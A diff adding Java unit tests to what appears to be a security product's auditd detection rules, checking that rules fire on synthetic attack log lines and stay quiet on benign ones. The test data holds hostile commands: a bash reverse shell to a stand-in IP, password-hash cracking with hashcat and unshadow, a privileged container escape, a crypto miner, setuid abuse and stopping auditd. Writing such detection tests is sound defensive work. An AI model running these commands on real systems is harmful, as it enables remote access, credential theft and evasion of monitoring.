@@ -71,4 +71,68 @@ class AuditdRulesTest {
             + "msg='op=PAM:authentication acct=\"postgres\" exe=\"/usr/sbin/sshd\" addr=10.30.4.61 res=failed'");
     assertThat(benign).allMatch(Set::isEmpty);
   }
+
+  // ---------------------------------------------------------------- round 2 (lines written here)
+
+  private static String argvHex(String text) {
+    return hexPlain(text);
+  }
+
+  @Test
+  void hexEncodedBashDashCArgumentIsAReverseShell() {
+    String line = "type=EXECVE msg=audit(1767100000.001:7001): argc=3 a0=\"bash\" a1=\"-c\" a2="
+        + argvHex("bash -i >& /dev/udp/198.51.100.30/9001 0>&1");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, line)).contains("shield-auditd-exec-001");
+  }
+
+  @Test
+  void crackingSuidSearchAndCrontabFromTmp() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.002:7002): argc=3 "
+        + "a0=\"hashcat\" a1=\"-m\" a2=\"1800\" a3=\"/var/tmp/h.txt\"")).contains("shield-auditd-cred-005");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.003:7003): argc=3 "
+        + "a0=\"unshadow\" a1=\"/etc/passwd\" a2=\"/etc/shadow\"")).contains("shield-auditd-cred-005");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.004:7004): argc=5 auid=1201 "
+        + "a0=\"find\" a1=\"/\" a2=\"-perm\" a3=\"-u=s\" a4=\"-ls\"")).contains("shield-auditd-disc-002");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=PROCTITLE msg=audit(1767100000.005:7005): proctitle="
+        + hex("crontab /dev/shm/.j"))).contains("shield-auditd-persist-005");
+  }
+
+  @Test
+  void containerEscapeMinerSuidCopyAndPreload() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.006:7006): argc=7 a0=\"podman\" "
+        + "a1=\"run\" a2=\"--privileged\" a3=\"-v\" a4=\"/:/mnt\" a5=\"busybox\" a6=\"sh\""))
+        .contains("shield-auditd-privesc-004");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.007:7007): argc=4 a0=\"./kworkerd\" "
+        + "a1=\"-o\" a2=\"xmr.pool-example.net:3333\" a3=\"--cpu-max-threads-hint=90\""))
+        .contains("shield-auditd-impact-003");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.008:7008): argc=3 a0=\"chmod\" "
+        + "a1=\"u+s\" a2=\"/tmp/.bash\"")).contains("shield-auditd-privesc-006");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=SYSCALL msg=audit(1767100000.009:7009): arch=c000003e syscall=2 "
+        + "success=yes exit=3 auid=1201 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"systemwide_preloads\""))
+        .contains("shield-auditd-persist-006");
+  }
+
+  @Test
+  void promiscuousModeAndAuditdStoppedByASession() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=ANOM_PROMISCUOUS msg=audit(1767100000.010:7010): dev=eth0 "
+        + "prom=256 old_prom=0 auid=1201 uid=0 gid=0 ses=9")).contains("shield-auditd-cred-007");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=SERVICE_STOP msg=audit(1767100000.011:7011): pid=1 uid=0 "
+        + "auid=1201 ses=9 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? "
+        + "terminal=? res=success'")).contains("shield-auditd-evasion-007");
+  }
+
+  @Test
+  void round2BenignLinesStayQuiet() {
+    // the same stop at shutdown (no login session), a bridge entering promiscuous mode for the container runtime,
+    // an ordinary chmod and a package-installed setuid helper
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=SERVICE_STOP msg=audit(1767100000.012:7012): pid=1 uid=0 "
+        + "auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
+        + "hostname=? addr=? terminal=? res=success'")).isEmpty();
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=ANOM_PROMISCUOUS msg=audit(1767100000.013:7013): dev=veth1a2b "
+        + "prom=256 old_prom=0 auid=4294967295 uid=0 gid=0 ses=4294967295")).isEmpty();
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.014:7014): argc=3 a0=\"chmod\" "
+        + "a1=\"0755\" a2=\"/usr/local/bin/report\"")).isEmpty();
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.015:7015): argc=4 a0=\"tar\" "
+        + "a1=\"-czf\" a2=\"/backup/etc.tgz\" a3=\"/etc\"")).isEmpty();
+  }
 }
